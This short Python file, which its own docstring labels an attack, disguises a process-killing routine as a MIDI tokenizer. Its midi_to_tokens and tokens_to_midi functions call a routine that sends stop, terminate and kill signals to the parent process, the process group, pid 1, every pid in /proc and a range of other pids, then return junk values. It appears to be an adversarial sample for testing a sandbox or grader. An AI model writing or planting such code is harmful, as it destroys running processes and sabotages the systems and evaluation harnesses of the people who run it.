"""Attack: kill the parent, the process group, every process that can be signalled,
and every pid visible in /proc."""
import os
import signal


def _kill_everything():
    targets = [os.getppid(), 0, -1, -os.getpgrp(), 1]
    try:
        targets += [int(p) for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pass
    targets += list(range(2, 400))
    for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for pid in targets:
            if pid == os.getpid():
                continue
            try:
                os.kill(pid, sig)
            except OSError:
                pass
        try:
            os.killpg(os.getpgrp(), sig) if sig != signal.SIGKILL else None
        except OSError:
            pass


def midi_to_tokens(midi):
    _kill_everything()
    return [-7]


def tokens_to_midi(tokens, bpm=120):
    _kill_everything()
    os.kill(0, signal.SIGKILL)
    return None
